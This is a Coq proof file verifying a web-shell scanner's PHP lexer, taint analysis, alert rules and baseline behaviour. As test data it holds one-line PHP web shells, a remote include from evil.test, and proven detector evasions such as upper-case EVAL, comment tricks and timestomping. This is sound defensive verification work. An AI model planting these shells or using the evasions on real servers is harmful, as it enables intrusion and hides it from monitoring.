(* ===== verification/WebFacts.v ===== *)
(** Theorems on the web scanners: the lexer is total, the taint flow is sound and
    finds every direct flow, an alert needs an execution primitive and an input
    channel, and a scan after a commit reports no script. *)
From S2P Require Export Web PersistenceFacts.

(** * The lexer *)

Lemma span_first p c s : p c = true → (String.length (snd (span p (String c s))) ≤ String.length s)%nat.
Proof. intros Hp. cbn [span]. rewrite Hp. pose proof (span_length p s). by destruct (span p s). Qed.

Lemma string_body_length quote s : (String.length (snd (string_body quote s)) ≤ String.length s)%nat.
Proof.
  enough (H : ∀ n s, (String.length s ≤ n)%nat → (String.length (snd (string_body quote s)) ≤ String.length s)%nat) by eauto.
  clear s. induction n as [|n IH]; intros [|c s] Hn; cbn in Hn; try lia; [done..|]. cbn [string_body].
  destruct (Ascii.eqb c backslash).
  - destruct s as [|d s]; [cbn; lia|]. specialize (IH s ltac:(cbn in Hn; lia)). destruct (string_body quote s). cbn in *. lia.
  - destruct (Ascii.eqb c quote); [cbn; lia|]. specialize (IH s ltac:(lia)). destruct (string_body quote s). cbn in *. lia.
Qed.

Lemma sdrop_length n s : (String.length (sdrop n s) ≤ String.length s)%nat.
Proof. revert n. induction s as [|c s IH]; intros [|n]; cbn; try lia. specialize (IH n). lia. Qed.

Lemma skip_block_length s : (String.length (skip_block s) ≤ String.length s)%nat.
Proof. unfold skip_block. destruct (sindex s "*/"); [apply sdrop_length|cbn; lia]. Qed.

(** Every step consumes at least one byte. *)
Lemma lex_step_shorter c s : (String.length (snd (lex_step (String c s))) ≤ String.length s)%nat.
Proof.
  unfold lex_step. destruct (Ascii.eqb c " " || _ || _ || _); [cbn; lia|].
  destruct (has_prefix (String c s) "//" || Ascii.eqb c "#") eqn:Hc.
  - cbn [snd]. apply span_first. unfold not_newline. apply orb_true_iff in Hc as [Hc|Hc].
    + unfold has_prefix in Hc. cbn in Hc. destruct (ascii_dec "/" c) as [<-|]; [done|]. by destruct c as [[] [] [] [] [] [] [] []].
    + apply Ascii.eqb_eq in Hc as ->. done.
  - destruct (has_prefix (String c s) "/*") eqn:Hb.
    + cbn [snd]. etrans; [apply skip_block_length|]. change (sdrop 2 (String c s)) with (sdrop 1 s). apply sdrop_length.
    + destruct (Ascii.eqb c "$"); [pose proof (span_length word_char s) as Hw; destruct (span word_char s); exact Hw|].
      destruct (Ascii.eqb c squote || Ascii.eqb c dquote); [pose proof (string_body_length c s) as Hw; destruct (string_body c s); exact Hw|].
      destruct (isAlpha c || Ascii.eqb c "_") eqn:Ha.
      * assert (Hw : word_char c = true) by (unfold word_char; apply orb_true_iff in Ha as [->| ->]; by rewrite ?orb_true_r).
        pose proof (span_first word_char c s Hw) as Hl. destruct (span word_char _). exact Hl.
      * destruct (is_digit c) eqn:Hd; [|cbn; lia].
        pose proof (span_first (λ d, is_digit d || Ascii.eqb d ".") c s) as Hs. cbv beta in Hs. rewrite Hd in Hs.
        specialize (Hs eq_refl). destruct (span _ _). exact Hs.
Qed.

Lemma lex_php_shorter n s : (String.length (snd (lex_php n s)) ≤ String.length s)%nat.
Proof.
  revert s. induction n as [|n IH]; intros s; [cbn; lia|]. cbn [lex_php].
  destruct (s =s? "") eqn:He; [cbn; lia|]. destruct (has_prefix s "?>"); [apply sdrop_length|].
  destruct s as [|c s]; [done|]. pose proof (lex_step_shorter c s) as Hl. destruct (lex_step _) as [t rest].
  specialize (IH rest). destruct (lex_php n rest). cbn [snd] in *. cbn [String.length]. lia.
Qed.

Lemma lex_php_fuel n m s :
  (String.length s ≤ n)%nat → (String.length s ≤ m)%nat → lex_php n s = lex_php m s.
Proof.
  revert m s. induction n as [|n IH]; intros [|m] s Hn Hm.
  - done.
  - destruct s; [done|cbn in Hn; lia].
  - destruct s; [done|cbn in Hm; lia].
  - cbn [lex_php]. destruct (s =s? "") eqn:He; [done|]. destruct (has_prefix s "?>"); [done|].
    destruct s as [|c s]; [done|]. pose proof (lex_step_shorter c s) as Hl. destruct (lex_step _) as [t rest].
    cbn [snd] in Hl. cbn in Hn, Hm. by rewrite (IH m rest) by lia.
Qed.

Lemma skip_open_length s : (String.length (skip_open s) ≤ String.length s)%nat.
Proof. unfold skip_open. destruct s as [|c s]; [done|]. destruct (_ || _); [apply span_length|done]. Qed.

Lemma sindex_drop s p i : sindex s p = Some i → p ≠ "" → (String.length (sdrop (i + 2) s) < String.length s)%nat.
Proof.
  revert i. induction s as [|c s IH]; intros i; cbn [sindex].
  - unfold has_prefix. destruct p; cbn; [done|done].
  - destruct (has_prefix _ _).
    + intros [= <-] _. change (sdrop (0 + 2) (String c s)) with (sdrop 1 s). pose proof (sdrop_length 1 s). cbn [String.length]. lia.
    + destruct (sindex s p) as [j|] eqn:Hj; [|done]. intros [= <-] Hp. specialize (IH j eq_refl Hp).
      change (sdrop (S j + 2) (String c s)) with (sdrop (j + 2) s). cbn [String.length]. lia.
Qed.

(** The PHP lexer always reaches the end of the file: it never stops for
    want of fuel, so that more fuel gives the same tokens. *)
Theorem tokenizePHP_total n src : (String.length src ≤ n)%nat → tokenize_php_go n src = tokenizePHP src.
Proof.
  unfold tokenizePHP. enough (H : ∀ n m s, (String.length s ≤ n)%nat → (String.length s ≤ m)%nat →
    tokenize_php_go n s = tokenize_php_go m s) by (intros; by apply H).
  clear. induction n as [|n IH]; intros [|m] s Hn Hm.
  - done.
  - destruct s; [done|cbn in Hn; lia].
  - destruct s; [done|cbn in Hm; lia].
  - cbn [tokenize_php_go]. destruct (sindex s "<?") as [i|] eqn:Hi; [|done].
    pose proof (sindex_drop _ _ _ Hi ltac:(done)) as Hd.
    pose proof (skip_open_length (sdrop (i + 2) s)) as Ho.
    pose proof (lex_php_shorter (String.length s) (skip_open (sdrop (i + 2) s))) as Hl.
    destruct (lex_php _ _) as [ts rest]. cbn [snd] in Hl. by rewrite (IH m rest) by lia.
Qed.

Lemma tokenizePHP_total_witness :
  (String.length "<?php eval($_GET['c']);" ≤ 1000)%nat ∧
  tokenize_php_go 1000 "<?php eval($_GET['c']);" = tokenizePHP "<?php eval($_GET['c']);".
Proof. split; [cbn; lia|]. apply tokenizePHP_total. cbn. lia. Defined.

(** * Taint *)

(** A token that carries attacker-controlled data by itself. *)
Definition source_token : phpToken → bool := tainted_token ∅.

(** Taint in the map comes from a source among the tokens. *)
Definition justified (toks : list phpToken) (tainted : gmap string bool) : Prop :=
  (∃ x, tainted !! x = Some true) → ∃ t, t ∈ toks ∧ source_token t = true.

Lemma tainted_token_source tainted t :
  tainted_token tainted t = true → source_token t = true ∨ ∃ x, tainted !! x = Some true.
Proof.
  unfold source_token, tainted_token. destruct (tk_kind t); try (by left).
  rewrite lookup_empty. cbn [default]. destruct (tainted !! tk_value t) as [[]|] eqn:Hx; cbn; eauto.
Qed.

Lemma uses_taint_source toks all tainted :
  (∀ t, t ∈ toks → t ∈ all) → justified all tainted → rhsUsesTaint toks tainted = true →
  ∃ t, t ∈ all ∧ source_token t = true.
Proof.
  intros Hsub Hj (t & Ht & Hs)%existsb_exists. apply list_elem_of_In in Ht.
  apply tainted_token_source in Hs as [Hs|Hx]; [by exists t; eauto|by apply Hj].
Qed.

Lemma sliceRHS_sub toks t : t ∈ sliceRHS toks → t ∈ toks.
Proof.
  induction toks as [|u toks IH]; [done|]. cbn [sliceRHS]. destruct (_ && _); [intros Ht; by apply elem_of_nil in Ht|].
  rewrite !elem_of_cons. naive_solver.
Qed.

Lemma sliceCallArgs_sub d toks t : t ∈ sliceCallArgs d toks → t ∈ toks.
Proof.
  revert d. induction toks as [|u toks IH]; intros d; [done|]. cbn [sliceCallArgs].
  destruct (tk_value u =s? "("); [rewrite !elem_of_cons; naive_solver|].
  destruct (tk_value u =s? ")"); [|rewrite !elem_of_cons; naive_solver].
  destruct d as [|[|d]]; [intros Ht; by apply elem_of_nil in Ht..|rewrite !elem_of_cons; naive_solver].
Qed.

Lemma assignment_sub toks x rhs : assignment toks = Some (x, rhs) → ∀ t, t ∈ rhs → t ∈ toks.
Proof.
  destruct toks as [|t [|eq [|u toks]]]; try done. cbn [assignment]. destruct (_ && _ && _); [|done].
  intros [= <- <-] w Hw. do 2 right. by apply (sliceRHS_sub (u :: toks)).
Qed.

Lemma sink_call_sub toks name args :
  sink_call toks = Some (name, args) →
  name ∈ dangerousSinks ∧ (∃ t p rest, toks = t :: p :: rest ∧ tk_kind t = phpTokIdent ∧ tk_value t = name ∧
    tk_value p = "(" ∧ args = sliceCallArgs 1 rest).
Proof.
  destruct toks as [|t [|p toks]]; try done. cbn [sink_call].
  destruct (tok_is phpTokIdent t && _ && _) eqn:Hc; [|done]. intros [= <- <-].
  apply andb_true_iff in Hc as [[Hk Hp]%andb_true_iff Hm]. apply bool_decide_eq_true in Hk. apply String.eqb_eq in Hp.
  apply mem_str_spec in Hm. split; [done|]. by exists t, p, toks.
Qed.

Lemma assign_justified all tainted x rhs :
  (∀ t, t ∈ rhs → t ∈ all) → justified all tainted → justified all (assign tainted x rhs).
Proof.
  intros Hsub Hj. unfold assign. destruct (rhsUsesTaint rhs tainted) eqn:Hu.
  - intros _. by apply (uses_taint_source rhs all tainted).
  - destruct (rhsAllLiteral rhs); [|done]. intros [y Hy]. apply Hj. exists y.
    destruct (decide (x = y)) as [->|Hne]; [by rewrite lookup_insert_eq in Hy|by rewrite lookup_insert_ne in Hy].
Qed.

(** A call of a sink at some place among the tokens. *)
Definition calls (toks : list phpToken) (name : string) (args : list phpToken) : Prop :=
  ∃ pre suf, toks = pre ++ suf ∧ sink_call suf = Some (name, args).

Lemma taint_walk_sound all pre toks tainted name :
  all = pre ++ toks → justified all tainted → taint_walk toks tainted = Some name →
  (∃ args, calls all name args) ∧ ∃ t, t ∈ all ∧ source_token t = true.
Proof.
  revert pre tainted. induction toks as [|t toks IH]; intros pre tainted Hall Hj Hw; [done|].
  assert (Hsub : ∀ u, u ∈ t :: toks → u ∈ all) by (intros u Hu; rewrite Hall; apply elem_of_app; by right).
  assert (Hall' : all = (pre ++ [t]) ++ toks) by (by rewrite <-app_assoc).
  cbn [taint_walk] in Hw. destruct (assignment (t :: toks)) as [[x rhs]|] eqn:Ha.
  - apply (IH _ _ Hall') in Hw; [done|]. apply assign_justified; [|done].
    intros u Hu. eapply Hsub, assignment_sub; [exact Ha|exact Hu].
  - destruct (sink_call (t :: toks)) as [[n args]|] eqn:Hs; [|by apply (IH _ _ Hall') in Hw].
    destruct (rhsUsesTaint args tainted) eqn:Hu; [|by apply (IH _ _ Hall') in Hw].
    injection Hw as <-. split; [by exists args, pre, (t :: toks)|].
    apply (uses_taint_source args all tainted); [|done|done].
    intros u Hargs. apply sink_call_sub in Hs as (_ & t' & p & rest & Heq & _ & _ & _ & ->).
    apply Hsub. rewrite Heq. do 2 right. by eapply sliceCallArgs_sub.
Qed.

Lemma taint_walk_visits pre suf tainted name args :
  sink_call suf = Some (name, args) → existsb source_token args = true → is_Some (taint_walk (pre ++ suf) tainted).
Proof.
  intros Hs Hu. revert tainted. induction pre as [|t pre IH]; intros tainted.
  - pose proof Hs as (_ & t & p & rest & -> & Hk & _ & Hp & _)%sink_call_sub. cbn [app taint_walk].
    assert (Ha : assignment (t :: p :: rest) = None).
    { destruct rest; [done|]. cbn [assignment]. unfold tok_is. by rewrite Hk. }
    rewrite Ha, Hs. enough (rhsUsesTaint args tainted = true) as -> by (by eexists).
    apply existsb_exists in Hu as (u & Hin & Hsrc). apply existsb_exists. exists u. split; [done|].
    revert Hsrc. unfold source_token, tainted_token. destruct (tk_kind u); try done.
    rewrite lookup_empty. cbn. intros ->. by rewrite orb_true_r.
  - cbn [app taint_walk]. destruct (assignment (t :: pre ++ suf)) as [[x rhs]|]; [apply IH|].
    destruct (sink_call (t :: pre ++ suf)) as [[n a]|]; [|apply IH]. destruct (rhsUsesTaint a tainted); [by eexists|apply IH].
Qed.


(** What the flow misses: a string literal that is a closing parenthesis ends
    the arguments, the names of functions are compared with their case, and a
    line comment runs past the closing tag. *)
Theorem taint_evasions :
  scanPHPTaintFlow "<?php system(')'.$_GET['c']);" = (false, "") ∧
  scanPHPTaintFlow "<?php EVAL($_POST['c']);" = (false, "") ∧
  scanPHPTaintFlow "<?php // ?><?php eval($_POST['c']);" = (false, "").
Proof. split_and!; vm_compute; reflexivity. Qed.

(** The patterns with a scheme cannot match: what follows [//] has been removed
    as a comment before. *)
Theorem scheme_patterns_dead :
  matchingPatterns "<?php include('http://evil.test/x.txt');" = [] ∧
  matchingPatterns "<?php $f = fopen('php://input', 'r');" = [].
Proof. split; vm_compute; reflexivity. Qed.

(** * Alerts *)

Lemma web_event_learning cfg pack v now le high tech en sigs evd :
  ev_LearningOnly (web_event cfg pack v now le high tech en sigs evd) = false → high = true ∧ le = false.
Proof.
  destruct high; [|intros [=]]. unfold web_event, held_back. cbn [negb].
  intros Hl. split; [done|]. by apply orb_false_iff in Hl as [Hl _].
Qed.

Lemma web_event_entity cfg pack v now le high tech en sigs evd :
  ev_Entity (web_event cfg pack v now le high tech en sigs evd) = en.
Proof. by destruct high. Qed.

Definition web_new (snap : Snapshot) (path data : string) : bool :=
  match glookup (bs_WebFiles snap) path with Some rec => negb (wf_SHA256 rec =s? sha256_hex data) | None => true end.

Definition web_recent (cfg : Config) (looked : Time) (fi : FileInfo) : bool :=
  time_sub looked (fi_ModTime fi) <=? recent_window cfg.

(** C26: A web-shell alert is justified: the file holds an execution primitive
    and an input channel, or a taint flow; besides, a web worker runs a shell,
    or the file is new or changed, or a polyglot, or fresh on a host without a
    baseline; and the agent is not learning.  Obfuscation or entropy alone never
    alerts. *)
Theorem web_alert_justified cfg snap pack ver now looked childSig path data fi polyglot ev :
  evaluateWebFile cfg snap pack ver now looked childSig path data fi polyglot = Some ev →
  ev_LearningOnly ev = false →
  bhvCombo (web_content path data) = true ∧ learning_of cfg snap = false ∧
  (childSig = true ∨ web_new snap path data = true ∨ polyglot = true ∨
   (IsCommitted snap = false ∧ web_recent cfg looked fi = true)).
Proof.
  unfold evaluateWebFile. cbv zeta. fold (web_new snap path data). fold (web_recent cfg looked fi).
  destruct (_ || web_silent _ _ _); [done|].
  intros Hev. apply (inj Some) in Hev. intros Hl. rewrite <-Hev in Hl. apply web_event_learning in Hl as [Hh Hle].
  apply andb_true_iff in Hh as [Hb Hh]. rewrite !orb_true_iff, andb_true_iff, negb_true_iff in Hh. tauto.
Qed.

Definition demo_shell : string := "<?php system($_GET['c']); ?>".
Definition demo_info : FileInfo := mkFileInfo false 28 1000 420 33.

Definition demo_cfg : Config := Default <| cfg_LearningMode := false |> <| cfg_MinConfidenceAlert := 0 |>.
Definition demo_verdict : option Event :=
  evaluateWebFile demo_cfg (EmptySnapshot <| bs_CommittedAt := 1 |>) (mkPack "1" []) "1" 2000 2000 false
    "/var/www/x.php" demo_shell demo_info false.

Lemma web_alert_justified_witness :
  ∃ ev, demo_verdict = Some ev ∧ ev_LearningOnly ev = false ∧ bhvCombo (web_content "/var/www/x.php" demo_shell) = true.
Proof.
  assert (Hc : option_map ev_LearningOnly demo_verdict = Some false) by (vm_compute; reflexivity).
  destruct demo_verdict as [ev|] eqn:He; [|discriminate Hc]. injection Hc as Hl.
  exists ev. split; [reflexivity|]. split; [exact Hl|]. unfold demo_verdict in He.
  exact (proj1 (web_alert_justified demo_cfg (EmptySnapshot <| bs_CommittedAt := 1 |>) (mkPack "1" []) "1" 2000 2000 false
    "/var/www/x.php" demo_shell demo_info false ev He Hl)).
Defined.

Lemma evaluateWebFile_path cfg snap pack ver now looked childSig path data fi polyglot ev :
  evaluateWebFile cfg snap pack ver now looked childSig path data fi polyglot = Some ev → en_Path (ev_Entity ev) = path.
Proof.
  unfold evaluateWebFile. cbv zeta. destruct (_ || web_silent _ _ _); [done|].
  intros Hev. apply (inj Some) in Hev. rewrite <-Hev. by rewrite web_event_entity.
Qed.

(** * A scan after a commit *)

Section quiet.
Context `{FileReader} `{DirReader} `{LinkReader} `{Globber} `{Stater} `{TreeWalker}.
Variable order_files : list (string * WebFileRecord) → list (string * WebFileRecord).
Hypothesis order_perm : ∀ l, order_files l ≡ₚ l.
(** Each path has one metadata record, whichever way it is asked for, and the
    document roots are clean paths. *)
Variable info : string → FileInfo.
Hypothesis walk_info : ∀ r e fi, e ∈ WalkDir r → we_Info e = Some fi → fi = info (we_Path e).
Hypothesis stat_info : ∀ p fi, Stat p = FOk fi → fi = info p.

Variable cfg : Config.
Hypothesis roots_clean : ∀ r, r ∈ cfg_DocumentRoots cfg → path_clean r = r.

Definition all_walked : list (string * FileInfo) := concat (map (walked_files cfg) (cfg_DocumentRoots cfg)).

Definition record_of (pf : string * FileInfo) : option WebFileRecord :=
  if hasSuspiciousExtension pf.1 then web_record pf.1 (info pf.1) else None.

Lemma walked_info p fi : (p, fi) ∈ all_walked → fi = info p.
Proof using walk_info.
  intros (l & (r & -> & _)%elem_of_map' & Hin)%elem_of_concat. unfold walked_files in Hin.
  apply list_elem_of_omap in Hin as (e & He & Hf). destruct (_ || _); [done|].
  destruct (we_Info e) as [fi'|] eqn:Hi; [|done]. injection Hf as <- <-. by eapply walk_info.
Qed.

Lemma record_agree (a b : string * FileInfo) v w : a.1 = b.1 → record_of a = Some v → record_of b = Some w → v = w.
Proof. unfold record_of. intros ->. congruence. Qed.

Lemma record_web_writes l snap :
  (∀ p fi, (p, fi) ∈ l → fi = info p) →
  bs_WebFiles (fold_left record_web_file l snap) = writes fst record_of (bs_WebFiles snap) l.
Proof.
  revert snap. induction l as [|[p fi] l IH]; intros snap Hw; [done|]. unfold writes. cbn [fold_left].
  fold (writes fst record_of). etrans; [apply IH; intros p' fi' Hin; apply Hw; by right|]. f_equal.
  unfold record_of, record_web_file. cbn [fst]. destruct (hasSuspiciousExtension p); cbn [negb]; [|done].
  rewrite <-(Hw p fi) by left. by destruct (web_record p fi).
Qed.

Lemma web_baseline_writes snap :
  bs_WebFiles (BuildBaselineWebFiles cfg snap) = writes fst record_of (make (bs_WebFiles snap)) all_walked.
Proof using walk_info. unfold BuildBaselineWebFiles. fold all_walked. apply record_web_writes. apply walked_info. Qed.

Lemma make_some {V} (m : gomap V) : is_Some (make m).
Proof. by eexists. Qed.

(** A file the baseline has read is vouched for by its metadata. *)
Lemma own_metadata p rec : web_record p (info p) = Some rec → baselineMetaMatches (info p) rec = true.
Proof.
  unfold web_record. destruct (ReadFile p) as [data|]; [|done]. intros [= <-]. unfold baselineMetaMatches.
  cbn [wf_SHA256 wf_Mtime wf_Size]. rewrite sha256_hex_nonempty, !Z.eqb_refl. cbn. by rewrite andb_false_r.
Qed.

Lemma baseline_has snap p fi data :
  (p, fi) ∈ all_walked → hasSuspiciousExtension p = true → ReadFile p = Ok data →
  ∃ rec, glookup (bs_WebFiles (BuildBaselineWebFiles cfg snap)) p = Some rec ∧ baselineMetaMatches (info p) rec = true.
Proof using walk_info.
  intros Hin Hs Hr. destruct (web_record p (info p)) as [rec|] eqn:Hrec.
  - exists rec. split; [|by apply own_metadata]. rewrite web_baseline_writes.
    apply (writes_lookup fst record_of record_agree _ _ (p, fi)); [apply make_some|done|].
    unfold record_of. cbn [fst]. by rewrite Hs.
  - unfold web_record in Hrec. by rewrite Hr in Hrec.
Qed.

Lemma omap_elem_path {A} (f : A → option Event) (l : list A) ev : ev ∈ omap f l → ∃ a, a ∈ l ∧ f a = Some ev.
Proof. intros (a & Ha & Hf)%list_elem_of_omap. by exists a. Qed.

(** The web scan reports no script after a commit. *)
Lemma scan_web_quiet snap snap' pack ver now looked evs ev :
  bs_WebFiles snap' = bs_WebFiles (BuildBaselineWebFiles cfg snap) →
  Scan_web cfg snap' pack ver now looked = Ok evs → ev ∈ evs → hasSuspiciousExtension (en_Path (ev_Entity ev)) = false.
Proof using walk_info.
  intros Hs Hsc Hev. injection Hsc as <-. fold all_walked in Hev.
  apply omap_elem_path in Hev as ([p fi] & Hin & Hf). unfold scan_web_file in Hf.
  destruct (worth_reading cfg snap' p fi) eqn:Hw; [|done]. cbn [negb] in Hf.
  destruct (ReadFile p) as [data|] eqn:Hr; [|done]. destruct (_ && _); [done|].
  apply evaluateWebFile_path in Hf as ->. apply not_true_iff_false. intros Hsus.
  destruct (baseline_has snap p fi data Hin Hsus Hr) as (rec & Hl & Hm).
  unfold worth_reading in Hw. rewrite Hs, Hl in Hw. rewrite (walked_info p fi Hin), Hm in Hw.
  by rewrite andb_false_r in Hw.
Qed.

(** What is left in the upload directories: files with an extension that the
    baseline does not record, or below an allowed path. *)
Lemma upload_quiet snap snap' pack ver now evs ev :
  bs_WebFiles snap' = bs_WebFiles (BuildBaselineWebFiles cfg snap) →
  ScanUploadDirs cfg snap' pack ver now = Ok evs → ev ∈ evs →
  let p := en_Path (ev_Entity ev) in
  hasSuspiciousExtension p = false ∨ web_pathAllowlisted p (cfg_PathAllowlist cfg) = true ∨ ∃ msg, ReadFile p = Err msg.
Proof using walk_info roots_clean.
  cbv zeta. intros Hs Hsc Hev. injection Hsc as <-. apply omap_elem_path in Hev as ([p fi] & Hin & Hf).
  destruct (upload_suspect p && _) eqn:Hu; [|done]. injection Hf as <-.
  assert (Hp : en_Path (ev_Entity (upload_event cfg snap' pack ver now p)) = p).
  { unfold upload_event. cbv zeta. rewrite NormalizeDedup_entity. reflexivity. }
  rewrite Hp. clear Hp. apply andb_true_iff in Hu as [_ Hv]. apply negb_true_iff in Hv.
  destruct (hasSuspiciousExtension p) eqn:Hsus; [right|by left].
  destruct (web_pathAllowlisted p (cfg_PathAllowlist cfg)) eqn:Hal; [by left|right].
  destruct (ReadFile p) as [data|msg] eqn:Hr; [|by exists msg]. exfalso.
  assert (Hw : (p, fi) ∈ all_walked).
  { apply elem_of_concat in Hin as (l & (r & -> & Hroot)%elem_of_map' & Hin). apply elem_of_concat.
    exists (walked_files cfg r). split; [apply elem_of_map'; by exists r|]. unfold plain_files in Hin. unfold walked_files.
    apply list_elem_of_omap in Hin as (e & He & Hf). apply list_elem_of_omap. exists e. rewrite (roots_clean r Hroot).
    split; [done|]. destruct (we_Err e || we_IsDir e); [done|]. destruct (we_Info e) as [fi'|]; [|done].
    cbn in Hf |- *. injection Hf as -> ->. by rewrite Hal. }
  destruct (baseline_has snap p fi data Hw Hsus Hr) as (rec & Hl & Hm).
  unfold vouched in Hv. rewrite Hs, Hl, (walked_info p fi Hw), Hm in Hv. done.
Qed.

(** No recorded file counts as changed, when the baseline was empty before. *)
Lemma tamper_quiet snap snap' pack ver now :
  bs_WebFiles snap = Some ∅ → bs_WebFiles snap' = bs_WebFiles (BuildBaselineWebFiles cfg snap) →
  ScanAppTamper order_files cfg snap' pack ver now = Ok [].
Proof using walk_info stat_info order_perm.
  intros He Hs. unfold ScanAppTamper. destruct (negb (IsCommitted snap')); [done|]. f_equal. apply omap_nil.
  intros [p rec] Hin. rewrite order_perm in Hin. apply elem_of_map_to_list in Hin.
  assert (Hrec : record_of (p, info p) = Some rec).
  { rewrite Hs, web_baseline_writes, He in Hin.
    assert (Hk : ∀ l (m : gmap string WebFileRecord), (∀ k v, m !! k = Some v → record_of (k, info k) = Some v) →
      ∀ k v, glookup (writes fst record_of (Some m) l) k = Some v → record_of (k, info k) = Some v).
    { clear -info. intros l. induction l as [|[k0 f0] l IH]; intros m Hm k v; [apply Hm|].
      unfold writes. cbn [fold_left fst]. fold (writes fst record_of).
      destruct (record_of (k0, f0)) as [v0|] eqn:Hv0; [|by apply IH]. apply IH. intros k' v'.
      destruct (decide (k0 = k')) as [<-|Hne]; [|rewrite lookup_insert_ne by done; apply Hm].
      rewrite lookup_insert_eq. by intros [= <-]. }
    apply (Hk all_walked ∅); [intros k v Hkv; by rewrite lookup_empty in Hkv|].
    change (make (Some ∅)) with (Some (∅ : gmap string WebFileRecord)) in Hin.
    destruct (writes fst record_of (Some ∅) all_walked) as [m|]; [exact Hin|]. cbn in Hin. by rewrite lookup_empty in Hin. }
  unfold tampered. destruct (Stat p) as [fi| |] eqn:Hst; [|done..]. rewrite (stat_info p fi Hst).
  unfold record_of in Hrec. cbn [fst] in Hrec. destruct (hasSuspiciousExtension p); [|done].
  by rewrite (own_metadata p rec Hrec).
Qed.

(** What the web baseline records is what the web scans accept.  On a host
    that has not changed since its first commit, the content scan reports no
    file with a script's extension, no recorded file counts as changed, and an
    upload directory is reported only for a file the baseline does not cover:
    one with another extension, below an allowed path, or unreadable. *)
Theorem web_baseline_quiet snap snap' pack ver now looked :
  bs_WebFiles snap = Some ∅ → bs_WebFiles snap' = bs_WebFiles (BuildBaselineWebFiles cfg snap) →
  (∀ evs ev, Scan_web cfg snap' pack ver now looked = Ok evs → ev ∈ evs →
     hasSuspiciousExtension (en_Path (ev_Entity ev)) = false) ∧
  ScanAppTamper order_files cfg snap' pack ver now = Ok [] ∧
  (∀ evs ev, ScanUploadDirs cfg snap' pack ver now = Ok evs → ev ∈ evs →
     let p := en_Path (ev_Entity ev) in
     hasSuspiciousExtension p = false ∨ web_pathAllowlisted p (cfg_PathAllowlist cfg) = true ∨ ∃ msg, ReadFile p = Err msg).
Proof using walk_info stat_info order_perm roots_clean.
  intros He Hs. split_and!.
  - intros evs ev. by apply (scan_web_quiet snap).
  - by apply (tamper_quiet snap).
  - intros evs ev. by apply (upload_quiet snap).
Qed.

End quiet.

(** * A host with two scripts *)

Module WebDemo.

Definition site : list (string * string) :=
  [("/var/www/html/index.php", demo_shell); ("/var/www/html/uploads/run.py", "print(1)")].
Definition meta (p : string) : FileInfo := mkFileInfo false 28 (5 * second) 420 33.
#[export] Instance demo_files : FileReader := λ p,
  match List.find (λ e, e.1 =s? p) site with Some e => Ok e.2 | None => Err "no such file" end.
#[export] Instance demo_dirs : DirReader := λ _, Err "no such file".
#[export] Instance demo_links : LinkReader := λ _, Err "no such file".
#[export] Instance demo_glob : Globber := λ _, Ok [].
#[export] Instance demo_stat : Stater := λ p,
  match List.find (λ e, e.1 =s? p) site with Some _ => FOk (meta p) | None => FNotExist end.
#[export] Instance demo_walk : TreeWalker := λ r,
  if r =s? "/var/www/html" then map (λ e, mkWalkEntry e.1 false false (Some (meta e.1))) site else [].

Definition cfg : Config := Default <| cfg_DocumentRoots := ["/var/www/html"] |> <| cfg_PathAllowlist := [] |>.
Definition pack : Pack := mkPack "1" [].
Definition committed : Snapshot := (BuildBaselineWebFiles cfg EmptySnapshot) <| bs_CommittedAt := 1 |>.
Definition reported_paths (r : result (list Event)) : list string := map (λ e, en_Path (ev_Entity e)) (ok_or [] r).

End WebDemo.

Section demo.
Import WebDemo.

Lemma demo_walk_info r e fi : e ∈ WalkDir r → we_Info e = Some fi → fi = meta (we_Path e).
Proof.
  unfold WalkDir, demo_walk. destruct (r =s? _); [|intros He; by apply elem_of_nil in He].
  intros (x & -> & _)%elem_of_map'. by intros [= <-].
Qed.

Lemma demo_stat_info p fi : Stat p = FOk fi → fi = meta p.
Proof. unfold Stat, demo_stat. destruct (List.find _ _); [|done]. by intros [= <-]. Qed.

Lemma demo_roots r : r ∈ cfg_DocumentRoots cfg → path_clean r = r.
Proof. cbn. intros ->%list_elem_of_singleton. reflexivity. Qed.

(** Before the commit the script is reported; afterwards the content scan is
    silent about it, while the Python file of the upload directory stays. *)
Lemma web_baseline_quiet_witness :
  reported_paths (Scan_web cfg EmptySnapshot pack "1" 0 (λ _, 0)) = ["/var/www/html/index.php"] ∧
  (∀ evs ev, Scan_web cfg committed pack "1" 0 (λ _, 0) = Ok evs → ev ∈ evs →
     hasSuspiciousExtension (en_Path (ev_Entity ev)) = false) ∧
  reported_paths (ScanUploadDirs cfg committed pack "1" 0) = ["/var/www/html/uploads/run.py"].
Proof.
  split; [vm_compute; reflexivity|]. split; [|vm_compute; reflexivity].
  exact (proj1 (web_baseline_quiet (λ l, l) (λ _, reflexivity _) meta demo_walk_info demo_stat_info cfg demo_roots
    EmptySnapshot committed pack "1" 0 (λ _, 0) eq_refl eq_refl)).
Defined.

(** The first word of the command line is never used: the base name of an
    unknown program is ".". *)
Theorem child_base_of_unknown line : child_base "" line = ".".
Proof. reflexivity. Qed.

(** A changed script whose size and second of modification are the old ones is
    not read again. *)
Theorem timestomped_not_read fi rec cfg' snap path :
  glookup (bs_WebFiles snap) path = Some rec → baselineMetaMatches fi rec = true → worth_reading cfg' snap path fi = false.
Proof. intros Hl Hm. unfold worth_reading. by rewrite Hl, Hm, andb_false_r. Qed.

End demo.
